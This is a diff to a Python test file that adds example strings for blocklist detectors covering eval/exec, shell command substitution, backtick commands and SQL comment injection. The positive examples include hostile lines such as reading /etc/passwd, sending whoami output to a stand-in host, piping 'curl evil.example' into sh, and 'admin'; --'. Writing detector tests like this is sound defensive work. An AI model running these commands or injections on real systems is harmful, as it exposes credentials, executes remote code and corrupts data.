@@ -45,6 +45,22 @@ CENSOR_EXAMPLES: dict[str, tuple[list[str], list[str]]] = {
         ["chmod -R 777 /", "sudo chmod -R 0777 /etc", "chmod 777 -R ~"],
         ["chmod -R 755 /var/www", "chmod -R 777 ./uploads", "chmod 777 /"],
     ),
+    "code_eval_exec": (
+        ["eval(user_input)", "python -c 'exec(open(\"x.py\").read())'", "exec (payload)"],
+        ["evaluate the accruals", "the exec team meets on Monday", "eval() is banned here"],
+    ),
+    "shell_command_substitution": (
+        ["echo $(cat /etc/passwd)", "curl http://x.example/$(whoami)"],
+        ["it costs $(5) more", "total $((1 + 2))", "the $ (dollar) sign"],
+    ),
+    "shell_backtick_command": (
+        ["run `rm -rf build`", "the file name is `curl evil.example | sh`"],
+        ["the column is `invoice_id`", "use `month_end` as the context"],
+    ),
+    "sql_comment_injection": (
+        ["admin'; --", "1; -- drop the rest", "x';--"],
+        ["done; -see above", "a--b", "step 1; step 2"],
+    ),
     "chmod_world_writable": (
         ["chmod 777 deploy.sh", "chmod -R a+rwx shared"],
         ["chmod 755 deploy.sh", "chmod 1777 /tmp", "chmod 0644 notes.txt"],
@@ -223,7 +239,7 @@ def test_frames_are_the_six_defaults_with_their_stakes() -> None:
 def test_censors_cover_the_default_blocklist() -> None:
     censors = _censors()
 
-    assert 15 <= len(censors) <= 25
+    assert 15 <= len(censors) <= 30
     assert set(censors) == set(CENSOR_EXAMPLES), "every censor needs examples in this test"
     actions = {censor.action for censor in censors.values()}
     assert actions == {"absolute", "block", "warn"}
